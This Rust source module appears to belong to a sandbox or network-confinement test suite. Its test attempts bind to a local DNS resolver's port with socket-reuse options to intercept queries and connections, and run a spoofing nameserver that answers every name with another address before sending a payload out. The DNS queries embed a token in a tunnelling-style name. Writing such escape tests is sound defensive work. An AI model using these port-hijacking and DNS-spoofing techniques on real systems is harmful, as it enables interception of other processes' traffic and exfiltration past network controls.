//! In the place of another: at the port of a listener that is there, to get what is meant for it
//! and to answer for it.

use std::{
    io::{self, ErrorKind},
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket},
    os::fd::{AsRawFd, OwnedFd},
    thread,
    time::{Duration, Instant},
};

use nix::libc;

use super::{Attempt, Context, Evidence, Heirloom, address, dns::query, inherited::when_told, set};
use crate::{
    support::world::{DNS, ELSEWHERE},
    sys as calls,
};

/// The port of a nameserver on loopback whose port others may share, as many nameservers' is.
pub const SHARED: u16 = 5300;

pub fn attempts() -> Vec<Attempt> {
    let beside = |name, body| {
        Attempt::new("standing in", name, body)
            .evidence(Evidence::Hold)
            .both()
            .to_vec()
    };
    [
        beside("beside the resolver on loopback, its queries", |c| {
            beside_udp(c)
        }),
        beside("beside the resolver on loopback, its connections", |c| {
            beside_tcp(c)
        }),
        Attempt::new(
            "standing in",
            "beside a nameserver on loopback, its answers",
            answer_for_it,
        )
        .own(Heirloom::Nameserver)
        .of_user()
        .both()
        .to_vec(),
    ]
    .concat()
}

fn loopback(c: &Context) -> IpAddr {
    [Ipv4Addr::LOCALHOST.into(), Ipv6Addr::LOCALHOST.into()][c.family()]
}

/// A socket at the port of another, by every option that lets two have one.
fn shared(c: &Context, kind: i32, at: SocketAddr) -> io::Result<OwnedFd> {
    // Where it is free, nobody's place is taken.
    let alone = c.socket(kind, 0)?;
    match calls::bind(&alone, &address(at)) {
        Err(error) if error.kind() == ErrorKind::AddrInUse => {}
        Err(error) => return Err(error),
        Ok(()) => return Err(io::Error::other("nobody is there")),
    }
    let mut last = Err(io::Error::from(ErrorKind::AddrInUse));
    for options in [
        // Of UDP sockets with this alone the last one is asked.
        &[libc::SO_REUSEADDR][..],
        &[libc::SO_REUSEADDR, libc::SO_REUSEPORT],
        &[libc::SO_REUSEPORT],
    ] {
        let socket = c.socket(kind, 0)?;
        for option in options {
            set(&socket, libc::SOL_SOCKET, *option, 1)?;
        }
        last = calls::bind(&socket, &address(at)).map(|()| socket);
        if last.is_ok() {
            break;
        }
    }
    last
}

/// Whether what another process sends to the address of the one that was there comes here.
fn beside_udp(c: &Context) -> io::Result<()> {
    let at = SocketAddr::new(loopback(c), 53);
    let thief = UdpSocket::from(shared(c, libc::SOCK_DGRAM, at)?);
    thief.set_read_timeout(Some(Duration::from_millis(20)))?;
    let mut last = Ok(());
    for _ in 0..8 {
        let question = query(&format!("{}.tunnel.example.net", c.token), 1);
        last = c.udp()?.send_to(&question, at).map(drop);
        if thief.recv(&mut [0; 512]).is_ok() {
            return Ok(());
        }
    }
    last.and(Err(ErrorKind::TimedOut.into()))
}

fn beside_tcp(c: &Context) -> io::Result<()> {
    let at = SocketAddr::new(loopback(c), 53);
    let socket = shared(c, libc::SOCK_STREAM, at)?;
    calls::numbers(libc::SYS_listen, [socket.as_raw_fd().into(), 8, 0, 0, 0])?;
    let thief = TcpListener::from(socket);
    thief.set_nonblocking(true)?;
    let mut last = Ok(());
    // The kernel shares connections out by their ports.
    for _ in 0..32 {
        let client = c.tcp()?;
        last = super::connect_and_send(client, &address(at), b"\0\0");
        if thief.accept().is_ok() {
            return Ok(());
        }
        if last.is_err() {
            break;
        }
    }
    last.and(Err(ErrorKind::WouldBlock.into()))
}

/// Whoever asks the nameserver is told that the allowed name is elsewhere; then it is tried whether
/// that was believed. The name is asked for all along, so that there is something to answer.
fn answer_for_it(c: &Context) -> io::Result<()> {
    when_told(c)?;
    let at = SocketAddr::new(loopback(c), SHARED);
    let thief = UdpSocket::from(shared(c, libc::SOCK_DGRAM, at)?);
    thread::spawn(move || serve(&thief, ELSEWHERE));
    let to = SocketAddr::new(ELSEWHERE[c.family()], 123);
    let began = Instant::now();
    let mut last = Ok(());
    while began.elapsed() < Duration::from_millis(2500) {
        for kind in [1, 28] {
            let question = query("api.example.org", kind);
            let _ = c.udp()?.send_to(&question, DNS[c.family()]);
        }
        thread::sleep(Duration::from_millis(100));
        last = c.udp()?.send_to(&c.payload(), to).map(drop);
        if last.is_ok() {
            break;
        }
    }
    last
}

/// A nameserver for which every name has these addresses, for as long as its socket works.
pub fn serve(socket: &UdpSocket, addresses: [IpAddr; 2]) {
    let mut buffer = [0; 512];
    while let Ok((length, from)) = socket.recv_from(&mut buffer) {
        if let Some(answer) = answer(&buffer[..length], addresses) {
            let _ = socket.send_to(&answer, from);
        }
    }
}

/// The answer to a query with one question: one address of its type, for a second.
fn answer(query: &[u8], addresses: [IpAddr; 2]) -> Option<Vec<u8>> {
    let question = query.get(12..)?;
    let name = question.iter().position(|octet| *octet == 0)? + 1;
    let question = question.get(..name + 4)?;
    let [v4, v6] = addresses;
    let data = match (&question[name..name + 2], v4, v6) {
        ([0, 1], IpAddr::V4(ip), _) => ip.octets().to_vec(),
        ([0, 28], _, IpAddr::V6(ip)) => ip.octets().to_vec(),
        _ => Vec::new(),
    };
    let mut octets = query[..2].to_vec();
    let count = u8::from(!data.is_empty());
    octets.extend([0x81, 0x80, 0, 1, 0, count, 0, 0, 0, 0]);
    octets.extend(question);
    if !data.is_empty() {
        octets.extend([0xc0, 12]);
        octets.extend(&question[name..]);
        octets.extend([0, 0, 0, 1, 0, u8::try_from(data.len()).ok()?]);
        octets.extend(data);
    }
    Some(octets)
}
